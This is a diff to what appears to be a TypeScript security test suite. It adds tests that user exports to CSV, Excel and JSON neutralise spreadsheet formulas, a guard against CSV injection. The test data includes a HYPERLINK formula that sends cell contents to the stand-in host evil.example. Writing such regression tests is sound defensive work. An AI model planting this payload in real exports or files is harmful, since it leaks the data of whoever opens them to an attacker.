@@ -1,4 +1,5 @@
 // The attacks of issue 9, each performed as the prober did it, over app.inject against the demo data.
+import ExcelJS from 'exceljs';
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import { bearer, createHarness, type Harness } from '../testing/harness.ts';
 
@@ -153,5 +154,35 @@ describe('finding 4: input never causes a 500', () => {
       expect(res.json().fields[0]).toMatchObject({ path: 'id' });
     }
     expect(await h.db.selectFrom('assets').select('id').orderBy('id').execute()).toEqual(before);
+  });
+});
+
+describe('finding 5: exports neutralise formulas (OWASP CSV injection)', () => {
+  const formula = '=HYPERLINK("http://evil.example/?d="&A1,"Klick")';
+  const exportUsers = async (format: number) => {
+    const org = (await h.db.selectFrom('organisations').select('id').where('name', '=', 'Käufer Wohnbau GmbH').executeTakeFirstOrThrow()).id;
+    await h.db.updateTable('users').set({ first_name: formula, position: '@SUM(1+1)', phone_number: '+49 89 555010' }).where('user_name', '=', 'buyer').execute();
+    return h.as('admin', 'GET', `/api/export/users?exportFormat=${format}&language=de&Organisations=${org}`);
+  };
+
+  it('CSV: a first name =HYPERLINK(…) comes out as text, not as a live formula', async () => {
+    const body = (await exportUsers(1)).body;
+    expect(body).toContain(`'=HYPERLINK(`);
+    expect(body).toContain(`'@SUM(1+1)`);
+    expect(body).toContain(`'+49 89 555010`);
+    expect(body).not.toMatch(/(^|;|")=HYPERLINK/m);
+  });
+
+  it('Excel: the cell holds text starting with an apostrophe, never a formula', async () => {
+    const res = await exportUsers(2);
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
+    const cells = workbook.getWorksheet('Nutzer')!.getRow(2).values as unknown[];
+    expect(cells).toContain(`'${formula}`);
+    expect(cells.some((c) => typeof c === 'object' && c !== null && 'formula' in c)).toBe(false);
+  });
+
+  it('JSON keeps the value as it was typed', async () => {
+    expect((await exportUsers(0)).json()[0].firstName).toBe(formula);
   });
 });
